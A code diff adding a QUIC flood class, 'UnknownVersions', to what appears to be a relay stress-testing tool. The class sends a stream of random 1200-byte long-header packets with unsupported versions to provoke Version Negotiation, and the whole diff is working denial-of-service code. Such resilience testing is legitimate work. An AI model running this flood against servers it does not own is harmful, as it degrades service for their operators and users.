@@ -176,6 +176,27 @@ internal sealed class UnfinishedHandshakes() : Attack("quic-handshakes", "QUIC h
     }
 }
 
+/// <summary>What asks for Version Negotiation.</summary>
+internal sealed class UnknownVersions() : Attack("quic-versions", "packets of 1200 bytes of versions that nobody has, each with other connection IDs")
+{
+    public override void Run(Assault assault)
+    {
+        using var peer = new QuicPeer(assault.Relay, Assault.From);
+        var packet = new byte[1200];
+        while (!assault.IsOver && !peer.IsOver)
+        {
+            RandomNumberGenerator.Fill(packet);
+            // RFC 8999 §5.1: a long header, a version, and connection IDs of any length.
+            packet[0] |= 0x80;
+            (packet[1], packet[5], packet[6 + 20]) = (0x7a, 20, 20);
+            peer.SendPacket(packet);
+            assault.Done++;
+            if (assault.Done % 64 == 0)
+                peer.Drain();
+        }
+    }
+}
+
 /// <summary>PINGs and other frames that cost nothing to send, one a packet.</summary>
 internal sealed class QuicPings() : Attack("quic-pings", "packets of one PING each, one after the other")
 {
